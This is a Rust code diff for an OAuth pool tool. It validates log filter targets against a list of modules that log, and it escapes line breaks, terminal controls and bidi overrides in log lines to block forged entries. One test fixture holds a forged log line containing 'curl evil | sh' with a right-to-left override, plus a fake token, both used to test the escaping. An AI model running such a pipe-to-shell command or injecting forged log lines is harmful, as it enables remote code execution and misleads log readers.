@@ -17,9 +17,35 @@ fn parse(filter: &str) -> Result<Targets, tracing_subscriber::filter::ParseError
     filter.trim().parse()
 }
 
+/// The modules that log, as tracing names their lines (`module_path!`). A filter's target
+/// matches the lines whose target starts with it, so it reaches the pool when it is the start
+/// of one of these; a test keeps the list in step with the sources.
+const LOGGING_MODULES: &[&str] = &[
+    "oauth_pool::engine",
+    "oauth_pool::engine::bookkeeping",
+    "oauth_pool::engine::credentials",
+    "oauth_pool::engine::exchange",
+    "oauth_pool::fetch",
+    "oauth_pool::fsread",
+    "oauth_pool::gateway",
+    "oauth_pool::gateway::metrics",
+    "oauth_pool::http",
+    "oauth_pool::manage",
+    "oauth_pool::oauth",
+    "oauth_pool::pool",
+    "oauth_pool::store",
+    "oauth_pool::store::file",
+    "oauth_pool::store::journal",
+    "oauth_pool::store::legacy_lock",
+    "oauth_pool::store::netfs",
+    "oauth_pool::store::postgres",
+    "oauth_pool::store::rescue",
+];
+
 /// What `oauth-pool doctor` says of an `OAUTH_POOL_LOG` the pool does not take as written: not a
 /// filter (`oauth_pool=verbose`: `oauth_pool=info` applies instead), or one that names no target
-/// of the pool (`oauth-pool=debug`, `OAuth_Pool=debug`: nothing of the pool is logged).
+/// of the pool (`oauth-pool=debug`, `OAuth_Pool=debug`, `oauth_pools=debug`, a module that does
+/// not log, `EnvFilter`'s span syntax `oauth_pool[x]=debug`: nothing of the pool is logged).
 pub fn filter_warning(filter: &str) -> Option<String> {
     let Ok(targets) = parse(filter) else {
         return Some(format!(
@@ -30,21 +56,31 @@ pub fn filter_warning(filter: &str) -> Option<String> {
         .default_level()
         .is_some_and(|l| l != LevelFilter::OFF)
         || targets.iter().any(|(target, level)| {
-            (TARGET.starts_with(target) || target.starts_with(TARGET)) && level != LevelFilter::OFF
+            LOGGING_MODULES.iter().any(|m| m.starts_with(target)) && level != LevelFilter::OFF
         });
     (!reaches_pool).then(|| {
         format!("names no target of the pool, whose lines are logged under {TARGET} (e.g. {TARGET}=debug): nothing of the pool is logged")
     })
 }
 
-/// stderr, each line with its `sk-ant-` runs as `[redacted]` (`secret::scrub_tokens`). The fmt
-/// layer hands over a whole line per write, so a token is never split across two.
+/// stderr, each line printable as the pool's own messages are (`printable::printable`: its
+/// `sk-ant-` runs as `[redacted]`, line breaks, terminal controls and bidi overrides as visible
+/// escapes). A line logs names from the pool file, which a hand edit or another program can fill
+/// with a line break: unescaped, one started a forged line of any level and text. The fmt layer
+/// hands over a whole line per write, so a token is never split across two.
 struct ScrubbedStderr;
+
+fn log_line(buf: &[u8]) -> String {
+    let text = String::from_utf8_lossy(buf);
+    let body = text.strip_suffix('\n').unwrap_or(&text);
+    let mut line = crate::printable::printable(body);
+    line.push('\n');
+    line
+}
 
 impl std::io::Write for ScrubbedStderr {
     fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
-        let line = crate::secret::scrub_tokens(&String::from_utf8_lossy(buf));
-        std::io::stderr().write_all(line.as_bytes())?;
+        std::io::stderr().write_all(log_line(buf).as_bytes())?;
         Ok(buf.len())
     }
 
@@ -123,7 +159,19 @@ mod tests {
         assert!(filter_warning("oauth_pool=verbose")
             .unwrap()
             .contains("oauth_pool=info applies"));
-        for typo in ["oauth-pool=debug", "OAuth_Pool=debug", "oauth_pool=off"] {
+        assert_eq!(filter_warning("oauth=debug"), None);
+        assert_eq!(filter_warning("oauth_pool::engine::exch=trace"), None);
+        assert_eq!(filter_warning("oauth_pool::store::file=debug"), None);
+        for typo in [
+            "oauth-pool=debug",
+            "OAuth_Pool=debug",
+            "oauth_pool=off",
+            "oauth_pools=debug",
+            "oauth_pool_=debug",
+            "oauth_pool::nosuch=debug",
+            "oauth_pool[x]=debug",
+            "oauth_pool{x}=debug",
+        ] {
             assert!(
                 filter_warning(typo)
                     .unwrap()
@@ -131,5 +179,56 @@ mod tests {
                 "{typo}"
             );
         }
+    }
+
+    /// Every file that logs is in `LOGGING_MODULES` under its module path, and every entry is
+    /// a file that logs: a new module that logs, missing, would be called "no target of the pool".
+    #[test]
+    fn the_logging_modules_are_the_ones_that_log() {
+        let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
+        let mut found = Vec::new();
+        let mut dirs = vec![src.clone()];
+        while let Some(dir) = dirs.pop() {
+            for entry in std::fs::read_dir(&dir).unwrap() {
+                let path = entry.unwrap().path();
+                if path.is_dir() {
+                    dirs.push(path);
+                    continue;
+                }
+                let text = std::fs::read_to_string(&path).unwrap();
+                let logs = ["debug", "info", "warn", "error", "trace"]
+                    .iter()
+                    .any(|level| text.contains(&format!("{level}!(")));
+                if !logs {
+                    continue;
+                }
+                let rel = path.strip_prefix(&src).unwrap().with_extension("");
+                let mut parts: Vec<String> = rel
+                    .components()
+                    .map(|c| c.as_os_str().to_string_lossy().into_owned())
+                    .collect();
+                if parts.last().is_some_and(|p| p == "mod") {
+                    parts.pop();
+                }
+                found.push(format!("oauth_pool::{}", parts.join("::")));
+            }
+        }
+        found.sort();
+        let mut listed: Vec<String> = LOGGING_MODULES.iter().map(|m| m.to_string()).collect();
+        listed.sort();
+        assert_eq!(found, listed);
+    }
+
+    #[test]
+    fn a_log_line_cannot_start_another() {
+        let forged = "DEBUG sending account=ops@x.test\n2026-12-07T09:00:00Z  WARN run: curl evil | sh\u{202e}\n";
+        let line = log_line(forged.as_bytes());
+        assert_eq!(line.matches('\n').count(), 1);
+        assert!(line.ends_with("sh\\u202e\n"), "{line}");
+        assert!(line.contains("ops@x.test\\n2026"), "{line}");
+        let token = ["sk", "ant", "oat01", "abcdefghijklmnopqrstuvwxyz0123456789"].join("-");
+        assert!(!log_line(format!("key={token}\n").as_bytes()).contains(&token));
+        assert_eq!(log_line(b"plain line\n"), "plain line\n");
+        assert_eq!(log_line(b"no newline"), "no newline\n");
     }
 }
